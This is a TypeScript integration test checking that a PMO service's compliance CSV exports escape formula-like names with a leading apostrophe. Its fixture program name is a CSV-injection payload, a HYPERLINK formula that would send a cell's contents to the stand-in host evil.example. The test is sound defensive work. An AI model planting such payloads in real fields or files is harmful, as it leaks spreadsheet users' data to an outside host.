import { randomUUID } from 'node:crypto';
import { callApi, eventually, keycloakToken, startServiceAlone, uniqueSuffix, type ServiceAlone } from '@pmo/testing';
import { startStrategicPmo } from '../bootstrap';

// Names come from users and the compliance exports are opened in spreadsheets: a name a spreadsheet would run
// as a formula (OWASP's CSV injection) is written with a leading apostrophe, by the CSV answer of
// GET /portfolio/compliance (written here) and by the streamed export (written by PostgreSQL's COPY) alike.
let service: ServiceAlone;
let admin: string;
const tag = `csv-${uniqueSuffix()}`;
const programId = randomUUID();
const projectId = randomUUID();
const programName = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
const projectName = '+SUM(1,2)';
const today = new Date().toISOString().slice(0, 10);

const api = <T>(method: string, path: string, body?: unknown) => callApi<T>(method, `${service.url}${path}`, admin, body);
async function csvOf(path: string): Promise<string[]> {
  const answer = await fetch(`${service.url}${path}`, { headers: { authorization: `Bearer ${admin}` } });
  expect([answer.status, answer.headers.get('content-type')]).toEqual([200, expect.stringContaining('text/csv')]);
  return (await answer.text()).trimEnd().split('\r\n');
}

beforeAll(async () => {
  service = await startServiceAlone('strategic-pmo', `strategic_csv_${uniqueSuffix()}`, startStrategicPmo);
  admin = await keycloakToken('sam.strategic');
  await service.publish('pmo.program.registered.v1', {
    programId,
    name: programName,
    description: '',
    tags: [tag],
    registeredAt: new Date().toISOString(),
    code: tag,
  });
  await service.publish('pmo.project.registered.v1', {
    projectId,
    programId,
    name: projectName,
    phase: 'execution',
    tags: [],
    registeredAt: new Date().toISOString(),
  });
  const created = await api<{ id: string }>('POST', '/standards', { key: tag, title: 'Status reporting', kind: 'standard', owner: 'PMO' });
  const base = `/standards/${created.body.id}/versions`;
  const draft = await api('POST', base, {
    version: '1.0.0',
    level: 'mandatory',
    effectiveDate: today,
    adoptionDeadline: '2099-12-31',
    applicability: { scope: 'tags', tags: [tag] },
    requirements: [{ id: 'STATUS-CADENCE', text: 'Report every 7 to 14 days' }],
  });
  expect(draft.status).toBe(201);
  await api('POST', `${base}/1.0.0/submit`);
  const published = await api('POST', `${base}/1.0.0/publish`, {
    rollout: [{ name: 'all', programIds: [programId], programTags: [], opensOn: today, adoptionDeadline: '2099-12-31' }],
  });
  expect(published.status).toBe(200);
}, 120_000);

afterAll(() => service?.stop());

describe('compliance CSV exports and formula-like names', () => {
  const escaped = `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")"`;

  it('writes them with a leading apostrophe in the CSV of GET /portfolio/compliance, and as they are in its JSON', async () => {
    const rows = await eventually(async () => {
      const json = await api<{ rows: { programName: string; projectName: string }[] }>('GET', `/portfolio/compliance?program=${programId}`);
      expect(json.body.rows).toHaveLength(1);
      return json.body.rows;
    });
    expect(rows[0]).toEqual(expect.objectContaining({ programName, projectName }));
    const lines = await csvOf(`/portfolio/compliance?program=${programId}&format=csv`);
    expect(lines[1]).toBe(`${programId},${tag},${escaped},${projectId},${projectId},"'${projectName}",${tag},1.0.0,2099-12-31,pending`);
  });

  it('writes them the same way in the streamed export', async () => {
    const lines = await eventually(async () => {
      const found = await csvOf(`/portfolio/compliance/export?program=${programId}`);
      expect(found).toHaveLength(2);
      return found;
    });
    expect(lines[1]).toBe(`${programId},${tag},${escaped},${projectId},${projectId},"'${projectName}",${tag},1.0.0,2099-12-31,pending`);
  });
});
